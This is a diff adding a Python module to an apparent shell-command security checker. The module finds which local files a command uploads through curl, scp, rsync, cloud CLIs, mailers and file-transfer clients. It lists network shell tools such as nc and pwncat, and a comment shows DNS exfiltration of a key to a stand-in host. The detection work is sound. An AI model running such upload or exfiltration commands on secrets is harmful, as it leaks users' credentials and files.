@@ -1,0 +1,213 @@
+"""Files a command sends to another machine (docs/security.md#named-patterns, ``exfiltration``).
+
+:func:`uploads` reads each program's own way of naming what it sends: curl's and
+httpie's ``-d @F``/``-T F``, wget's ``--post-file``, a copier's operands before a
+remote one (``scp``, ``rsync``, ``rclone``, read as the programs read their
+options, so the key of ``scp -i KEY`` is not a file sent), a file-transfer
+client's ``put`` commands, cloud storage and release uploads (``aws s3 cp``,
+``gsutil cp``, ``gcloud storage cp``, ``az storage blob upload``, ``azcopy``,
+``s3cmd put``, ``gh gist create``, ``gh release upload``, ``docker|kubectl cp``,
+``lxc file push``, ``multipass transfer``, ``croc send``, ``wormhole send``,
+``pastebinit``), mail attachments (``mail -A``, ``mutt -a``), ``dig -f``'s queries,
+and a network tool's stdin. A pure leaf.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator, Sequence
+
+from multiplex.shell.detection._command_checks import operands
+from multiplex.shell.parsing._getopt import read_options, table
+from multiplex.shell.parsing._parsed import Redirect, SimpleCommand
+
+__all__ = [
+    "COPIERS",
+    "NETWORK_TOOLS",
+    "SENDS_STDIN",
+    "UPLOADERS",
+    "copier_operands",
+    "ssh_config_files",
+    "uploads",
+]
+
+NC = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "pwncat"})
+# Programs that reach another machine: a secret in their words (a substitution, a
+# credential variable) or on their stdin is sent. DNS and ICMP tools carry a name
+# or a pattern out as well (dig $(cat KEY).evil.test).
+NETWORK_TOOLS = NC | {
+    "socat", "telnet", "curl", "wget", "ssh", "openssl", "rclone", "scp", "sftp", "ftp",
+    "lftp", "http", "https", "xh", "dig", "nslookup", "host", "drill", "delv", "ping",
+    "ping6", "traceroute", "traceroute6", "tracepath", "mtr", "whois", "smbclient",
+}  # fmt: skip
+# What they read from stdin is sent: mailers, paste and gist clients too.
+SENDS_STDIN = NETWORK_TOOLS | {
+    "mail", "mailx", "s-nail", "sendmail", "msmtp", "ssmtp", "mutt", "neomutt", "pastebinit",
+    "wgetpaste", "gh",
+}  # fmt: skip
+
+_COPIERS = frozenset({"scp", "rsync", "sftp", "rclone", "pscp"})
+# Their options that take a value, so a value is not read as a file to send: the key
+# of scp -i, rsync --exclude .env. OpenSSH's are short only; rsync's long ones are
+# matched whole (popt takes no abbreviation: its flags that begin a valued option's
+# name are listed, so --partial is not read as --partial-dir).
+_SSH_COPY = "c= D= F= i= J= l= o= P= S= X= b= B= R= s="
+_COPIER_OPTIONS = {
+    "scp": table("", _SSH_COPY),
+    "sftp": table("", _SSH_COPY),
+    "rsync": table(
+        "rsh= rsync-path= exclude= include= exclude-from= include-from= files-from= filter= "
+        "password-file= log-file= log-file-format= temp-dir= partial-dir= compare-dest= "
+        "copy-dest= link-dest= backup-dir= suffix= chmod= chown= usermap= groupmap= timeout= "
+        "contimeout= bwlimit= port= address= sockopts= out-format= max-size= min-size= "
+        "max-delete= max-alloc= block-size= checksum-choice= compress-choice= compress-level= "
+        "skip-compress= iconv= info= debug= stop-after= stop-at= modify-window= outbuf= "
+        "remote-option= checksum-seed= protocol= write-batch= only-write-batch= read-batch= "
+        "early-input= copy-as= partial compress checksum backup",
+        "e= f= B= T= M= @=",
+    ),
+}
+
+
+COPIERS = frozenset(_COPIER_OPTIONS)
+_SSH = table("", "B= b= c= D= E= e= F= I= i= J= L= l= m= O= o= P= p= Q= R= S= W= w=")
+
+
+def ssh_config_files(prog: str, args: Sequence[str]) -> list[str]:
+    """The files ssh, scp or sftp reads as its configuration (``-F FILE``): ssh prints each
+    line it cannot read as an option, so a secret named there reaches the output."""
+    spec = _SSH if prog == "ssh" else _COPIER_OPTIONS.get(prog) if prog != "rsync" else None
+    return read_options(args, spec).values("-F") if spec and "F" in "".join(args) else []
+
+
+def copier_operands(prog: str, args: Sequence[str]) -> list[str]:
+    """The files and hosts a copier (scp, sftp, rsync …) is given, without its options' values."""
+    spec = _COPIER_OPTIONS.get(prog)
+    return list(read_options(args, spec).operands) if spec else operands(args)
+
+
+# File-transfer clients that take their commands as text: from a here-string or
+# here-document, or from an option (lftp -e/-c, tftp -c).
+_FILE_CLIENTS = frozenset({"sftp", "ftp", "lftp", "ncftp", "tftp", "pftp", "yafc", "smbclient"})
+_PUTS = frozenset({"put", "mput", "reput", "send", "append"})
+_CLIENT_SCRIPT = ("-e", "-c")
+_CURL_DATA = ("-d", "--data", "--data-binary", "--data-urlencode", "--json", "-F", "--form")
+_CURL_UPLOAD = ("-T", "--upload-file")
+_WGET_POST = ("--post-file", "--body-file")
+_REMOTE = re.compile(r"^(?:[A-Za-z0-9_.@-]+|\[[0-9a-fA-F:]+\]):(?!//)")
+# Cloud storage, release and transfer tools: their local operands (or the values of
+# the options naming a file) are sent when they upload.
+_CLOUD = frozenset({"aws", "gsutil", "gcloud", "az", "azcopy", "s3cmd", "gh", "docker",
+                    "podman", "kubectl", "oc", "lxc", "incus", "multipass", "croc",
+                    "wormhole", "pastebinit", "wgetpaste", "mail", "mailx", "s-nail", "mutt",
+                    "neomutt", "dig", "npm", "twine", "gem", "vagrant"})  # fmt: skip
+_BUCKET = re.compile(r"^(?:s3|gs|az|https?)://", re.IGNORECASE)
+_CONTAINER_PATH = re.compile(r"^[A-Za-z0-9_.-]+(?:/[A-Za-z0-9_.-]+)?:")
+_MAIL_ATTACH = {"mail": ("-A", "--attach"), "mailx": ("-A", "--attach"),
+                "s-nail": ("-a", "--attach"), "mutt": ("-a",), "neomutt": ("-a",)}  # fmt: skip
+UPLOADERS = frozenset({"curl", "http", "https", "xh", "wget", *_COPIERS, *_FILE_CLIENTS, *_CLOUD})
+
+
+def _values(args: Sequence[str], names: Sequence[str]) -> list[str]:
+    """The values of ``names`` (``-f F``, ``--file F``, ``--file=F``) in ``args``."""
+    found = [args[i + 1] for i, a in enumerate(args[:-1]) if a in names]
+    return found + [a.partition("=")[2] for a in args if a.partition("=")[0] in names and "=" in a]
+
+
+def _cloud_uploads(prog: str, args: Sequence[str]) -> list[str]:
+    """The local files an upload by a cloud, release, transfer or mail tool sends."""
+    ops = operands(args)
+    verbs = tuple(ops[:3])
+    if prog in ("aws", "gsutil", "gcloud", "s3cmd", "azcopy"):
+        # aws s3 cp|mv|sync F s3://B, gsutil cp F gs://B, gcloud storage cp, s3cmd put,
+        # azcopy copy: the local sources when the destination (the last) is a bucket
+        if len(ops) > 2 and _BUCKET.match(ops[-1]):
+            first = 2 if prog in ("aws", "gcloud") else 1
+            return [o for o in ops[first:-1] if "://" not in o]
+        if prog == "aws" and verbs[:2] == ("s3api", "put-object"):
+            return [v.removeprefix("fileb://").removeprefix("file://")
+                    for v in _values(args, ("--body",))]  # fmt: skip
+        return []
+    if prog == "az":  # az storage blob upload --file F, upload-batch --source D
+        return _values(args, ("--file", "-f", "--source", "-s")) if "storage" in verbs else []
+    if prog == "gh":  # gh gist create F…, gh release upload|create TAG F…, gh api -F k=@F
+        if verbs[:1] == ("api",):
+            fields = _values(args, ("-F", "--field"))
+            return [f.partition("=@")[2] for f in fields if "=@" in f] + _values(args, ("--input",))
+        if verbs[:2] == ("gist", "create"):
+            return ops[2:]
+        return ops[3:] if verbs[:2] in (("release", "upload"), ("release", "create")) else []
+    if prog in ("docker", "podman", "kubectl", "oc"):  # docker cp F C:/dst, kubectl cp F P:/dst
+        if verbs[:1] == ("cp",) and len(ops) > 2 and _CONTAINER_PATH.match(ops[-1]):
+            return ops[1:-1]
+        return []
+    if prog in ("lxc", "incus"):  # lxc file push F C/dst
+        return ops[2:-1] if verbs[:2] == ("file", "push") else []
+    if prog in ("multipass", "vagrant"):  # multipass transfer F vm:dst, vagrant upload F
+        return ops[1:-1] if verbs[:1] in (("transfer",), ("upload",)) else []
+    if prog in ("croc", "wormhole"):  # croc send F, wormhole send F
+        return ops[1:] if verbs[:1] == ("send",) else []
+    if prog in ("pastebinit", "wgetpaste"):
+        return ops + _values(args, ("-i",))
+    if prog in _MAIL_ATTACH:
+        return _values(args, _MAIL_ATTACH[prog])
+    if prog == "dig":  # dig -f FILE: each line a query sent to a server
+        return _values(args, ("-f",))
+    if prog in ("npm", "twine", "gem"):  # npm publish DIR, twine upload F…, gem push F
+        verb = {"npm": "publish", "twine": "upload", "gem": "push"}[prog]
+        return ops[1:] if verbs[:1] == (verb,) else []
+    return []
+
+
+def uploads(cmd: SimpleCommand) -> Iterator[str]:
+    """Paths ``cmd`` sends to the network by its own options or its stdin (curl -d @f,
+    scp f host:, aws s3 cp f s3://b, gh gist create f, mail -A f, dig -f f)."""
+    prog = cmd.program
+    args = cmd.argv[1:]
+    if prog in ("curl", "http", "https", "xh"):
+        for i, arg in enumerate(args):
+            value = args[i + 1] if i + 1 < len(args) else ""
+            for opt in _CURL_DATA + _CURL_UPLOAD:
+                if arg.startswith(opt + "="):
+                    value = arg[len(opt) + 1 :]
+                elif arg != opt:
+                    continue
+                if opt in _CURL_UPLOAD:
+                    yield value
+                elif "@" in value:
+                    yield value.split("@", 1)[1].split(";", 1)[0]
+                elif "<" in value:
+                    yield value.split("<", 1)[1]
+            if prog != "curl" and "@" in arg and not arg.startswith("-"):
+                yield arg.split("@", 1)[1]
+    elif prog == "wget":
+        for i, arg in enumerate(args):
+            for opt in _WGET_POST:
+                if arg.startswith(opt + "="):
+                    yield arg[len(opt) + 1 :]
+                elif arg == opt and i + 1 < len(args):
+                    yield args[i + 1]
+    if prog in _FILE_CLIENTS:  # sftp <<< 'put .env', lftp -e 'put .env', tftp -c put .env
+        yield from _client_puts(prog, args, cmd.redirects)
+    elif prog in _COPIERS:
+        ops = copier_operands(prog, args)
+        if len(ops) > 1 and (_REMOTE.match(ops[-1]) or prog == "rclone"):
+            yield from ops[:-1]
+    elif prog in _CLOUD:
+        yield from _cloud_uploads(prog, args)
+    for r in cmd.redirects:
+        if r.op in ("<", "0<") and prog in SENDS_STDIN:
+            yield r.target
+
+
+def _client_puts(prog: str, args: Sequence[str], redirects: tuple[Redirect, ...]) -> Iterator[str]:
+    """The local files a file-transfer client's own commands send (``put F``, ``mput F G``)."""
+    texts = [r.target for r in redirects if r.op.startswith("<<")]
+    for i, arg in enumerate(args[:-1]):
+        if arg in _CLIENT_SCRIPT:
+            texts.append(" ".join(args[i + 1 :]) if prog == "tftp" else args[i + 1])
+    for text in texts:
+        for step in re.split(r"[;\n]", text):
+            words = step.split()
+            if words and words[0].lower() in _PUTS:
+                yield from (w for w in words[1:] if not w.startswith("-"))
